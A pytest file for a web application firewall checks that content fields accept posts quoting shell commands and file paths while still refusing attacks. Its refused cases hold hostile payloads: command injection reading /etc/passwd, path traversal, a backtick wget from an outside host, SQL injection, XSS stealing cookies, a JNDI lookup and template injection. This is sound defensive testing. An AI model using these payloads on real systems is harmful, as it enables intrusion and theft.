"""Documents in content fields (hostguard.waf.documents, data/waf/documents.toml): a person's writing in a field
named for it may quote shell sessions and paths, and passes; the same text in any other field, a short
injection in the same field, and every other kind of attack in a document are still refused. Through the real
engine with CRS 3.3.4 and hostguard's rules, as a site gets them."""

from __future__ import annotations

import json
import re
from urllib.parse import urlencode

import pytest

from hostguard.waf.documents import Documents, argument_pattern, load, parse, text_body_rule
from hostguard.waf.engine import Engine, Request
from hostguard.waf.ruleset import WafSettings, assemble
from tests.waf.test_engine import _need_library

HEADERS = [("Host", "forum.example.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")]

SHELL_POST = ("I ran:\n\n```sh\nsudo apt-get update && sudo apt-get install -y nginx\n"
              "sudo systemctl status nginx | head -n 20\n```\n\nand it says the port is in use.")
PATHS = "My vhost config is in /etc/nginx/sites-available/default and the logs in /var/log/nginx/error.log; help"
TABLE = "| cmd | what |\n|---|---|\n| `ls -la` | list files |\n| `cat notes.txt` | show a file |\n"
WIKI = "h2. Deploy\n{code:bash}\n./gradlew build && scp build/libs/app.jar deploy@192.0.2.20:/opt/app/\n{code}\n"
ENTITIES = "Tom&rsquo;s &ldquo;quick&rdquo; guide&nbsp;&mdash; steps 1&ndash;3 &amp; FAQ &copy; 2025"



def _form(fields: dict[str, str], target: str = "/forum/posts") -> Request:
    body = urlencode(fields).encode()
    return Request("POST", target, [*HEADERS, ("Content-Type", "application/x-www-form-urlencoded"),
                                    ("Content-Length", str(len(body)))], body)


def _json(value: object, target: str = "/api/v4/posts") -> Request:
    body = json.dumps(value).encode()
    return Request("POST", target, [*HEADERS, ("Content-Type", "application/json"),
                                    ("Content-Length", str(len(body)))], body)


def _text(text: str, content_type: str = "text/markdown; charset=utf-8") -> Request:
    body = text.encode()
    return Request("PUT", "/api/wiki/pages/deploy.md", [*HEADERS, ("Content-Type", content_type),
                                                         ("Content-Length", str(len(body)))], body)


DOCUMENTS_PASS = [
    pytest.param(_form({"title": "nginx won't start", "body": SHELL_POST}), id="form-body-shell-session"),
    pytest.param(_form({"description": PATHS}, "/support/tickets"), id="form-description-paths"),
    pytest.param(_form({"text": TABLE}, "/wiki/save"), id="form-text-markdown-table"),
    pytest.param(_form({"content": WIKI, "atl_token": "f653dea3"}, "/pages/doeditpage.action"), id="wiki-markup"),
    pytest.param(_form({"body": ENTITIES}, "/kb/save"), id="named-character-references"),
    pytest.param(_form({"post[body]": SHELL_POST}), id="rails-parent"),
    pytest.param(_json({"channel_id": "x1", "message": SHELL_POST}), id="json-message"),
    pytest.param(_json({"post": {"body": SHELL_POST}}), id="json-parent"),
    pytest.param(_json({"data": {"attributes": {"body": PATHS}}}), id="json-api-attributes"),
    pytest.param(_text(f"# Deploy\n\n{SHELL_POST}\n"), id="markdown-text-body"),
    pytest.param(_json({"channel": "C1", "text": "use `rm -rf node_modules && npm i` then restart the dev server"},
                       "/api/chat.postMessage"), id="chat-backticks"),   # hostguard's own 20801
    pytest.param(_form({"description": "Disk full on /var/lib/mysql again, see /var/log/syslog and /etc/fstab for "
                                       "the mounts"}, "/tickets"), id="paths-between-words"),
    pytest.param(_json({"topic_id": 12, "raw": f"Try this:\n\n{SHELL_POST}"}, "/posts.json"), id="discourse-raw"),
]


@pytest.mark.parametrize("request_", DOCUMENTS_PASS)
def test_documents_in_content_fields_pass(waf: Engine, request_: Request) -> None:
    verdict = waf.inspect(request_)
    assert not verdict.disruptive, verdict.rule_ids


def test_each_document_is_refused_without_the_documents_narrowings(monkeypatch: pytest.MonkeyPatch) -> None:
    # what the documents narrowings change: the same rule set without them refuses each of these requests
    _need_library()
    from hostguard.waf import narrowing

    shipped = narrowing.load()
    monkeypatch.setattr(narrowing, "load", lambda: tuple(n for n in shipped if not n.documents))
    with Engine(text=assemble(WafSettings())) as without:
        passed = [p.id for p in DOCUMENTS_PASS if not without.inspect(p.values[0]).disruptive]  # type: ignore[arg-type]
    assert not passed, passed


STILL_REFUSED = [
    # the same document in a field not named for writing (a host name, a command, a file)
    pytest.param(_form({"host": SHELL_POST}, "/tools/ping"), id="document-in-host-field"),
    pytest.param(_json({"a": {"b": {"c": {"d": {"body": SHELL_POST}}}}}), id="deeper-than-three-objects"),
    pytest.param(_form({"bodytext_cmd": SHELL_POST}), id="name-only-containing-one"),
    pytest.param(_json({"cmd": SHELL_POST}, "/api/run"), id="document-in-json-cmd"),
    # a short injection in a content field: no document
    pytest.param(_form({"body": "; cat /etc/passwd"}), id="short-injection-in-body"),
    pytest.param(_form({"comment": "../../../../etc/passwd"}), id="traversal-in-comment"),
    pytest.param(_json({"message": "`wget http://198.51.100.7/x -O /tmp/x`"}), id="backticks-in-message"),
    # a document in one field does not excuse an injection in another
    pytest.param(_form({"body": SHELL_POST, "host": "192.0.2.1; cat /etc/passwd"}, "/tools/ping"),
                 id="document-beside-injection"),
    # every other kind of attack is still read in a document
    pytest.param(_form({"body": f"{SHELL_POST}\n\n1' UNION SELECT username, password FROM users-- -"}),
                 id="sql-in-document"),
    pytest.param(_form({"body": f"{PATHS}\n<script>alert(document.cookie)</script>"}), id="xss-in-document"),
    pytest.param(_json({"message": f"{SHELL_POST}\n${{jndi:ldap://198.51.100.7/a}}"}), id="jndi-in-document"),
    pytest.param(_form({"body": f"{SHELL_POST}\n{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}"}),
                 id="template-in-document"),
    pytest.param(_text("; cat /etc/passwd", "text/plain"), id="short-text-body"),
    # a command line with a few words is not a document
    pytest.param(_json({"notes": "cd ../shared && ls -la; then edit config.yml and restart"}, "/api/notes"),
                 id="command-line-with-words"),
]


@pytest.mark.parametrize("request_", STILL_REFUSED)
def test_what_is_not_a_document_in_a_content_field_is_still_refused(waf: Engine, request_: Request) -> None:
    verdict = waf.inspect(request_)
    assert verdict.disruptive, verdict.rule_ids


def test_an_exclusion_of_one_argument_reaches_the_twins_and_one_of_the_whole_collection_does_not() -> None:
    # the twins read the fields people write in by a name pattern: an exclusion naming the argument (what
    # learning proposes) applies to them; one of all of ARGS by tag does not (a package switches them off by id)
    _need_library()
    injection = _form({"body": "; cat /etc/passwd"})
    one = 'SecAction "id:11990,phase:1,pass,nolog,ctl:ruleRemoveTargetById=20966;ARGS:body"'
    collection = 'SecAction "id:11990,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=attack-rce;ARGS"'
    with Engine(text=assemble(WafSettings(), site_rules=[one])) as engine:
        assert 20966 not in engine.inspect(injection).rule_ids
    with Engine(text=assemble(WafSettings(), site_rules=[collection])) as engine:
        assert 20966 in engine.inspect(injection).rule_ids


@pytest.mark.parametrize("name", ["body", "Message", "json.body", "json.message", "json.data.attributes.body",
                                  "json.commits.array_2.message", "post[body]", "comment[text]", "wpTextbox1"])
def test_the_argument_pattern_names_the_fields_in_every_form(name: str) -> None:
    assert re.match(argument_pattern(), name), name


@pytest.mark.parametrize("name", ["host", "bodyx", "nobody", "messages_count", "json.a.b.c.d.body", "body.id",
                                  "json.body.id", "post[body][id]", "cmd", "json.command"])
def test_the_argument_pattern_leaves_other_fields_alone(name: str) -> None:
    assert not re.match(argument_pattern(), name), name


def test_the_argument_pattern_has_no_bar_and_no_quote() -> None:
    # libmodsecurity3 splits a target list at "|", even inside a regex, mod_security2 at "," too; a quote would
    # end the directive
    pattern = argument_pattern()
    assert "|" not in pattern and "," not in pattern and '"' not in pattern   # mod_security2 splits at commas
    assert all(re.escape(n) in pattern for n in load().names)


@pytest.mark.parametrize(("raw", "message"), [
    ({"names": [], "shape": "x"}, "names must list strings"),
    ({"names": [1], "shape": "x"}, "names must list strings"),
    ({"names": ["bo dy"], "shape": "x"}, "argument name 'bo dy'"),
    ({"names": ["post[body]"], "shape": "x"}, "argument name 'post[body]'"),
    ({"names": ["body"], "shape": 'a"b'}, "without double quotes"),
    ({"names": ["body"]}, "without double quotes"),
    ({"names": ["body"], "shape": "x", "colour": "red"}, "unknown key 'colour'"),
])
def test_a_malformed_table_is_refused_naming_what_is_wrong(raw: dict[str, object], message: str) -> None:
    with pytest.raises(ValueError, match=re.escape(message)):
        parse(raw)


def test_a_text_body_rule_is_written_for_the_rules_narrowed_for_documents() -> None:
    _need_library()
    documents = parse({"names": ["body"], "shape": "[a-z]{2,}(?: [a-z]{2,}){3}"})
    assert isinstance(documents, Documents) and text_body_rule([], documents) == ""
    rule = text_body_rule([932105, 932150], documents)
    assert "ctl:ruleRemoveTargetById=932105;ARGS_NAMES,ctl:ruleRemoveTargetById=932150;ARGS_NAMES" in rule
    with Engine(text=rule) as engine:   # the rule alone loads
        assert not engine.inspect(_form({"body": "x"})).disruptive
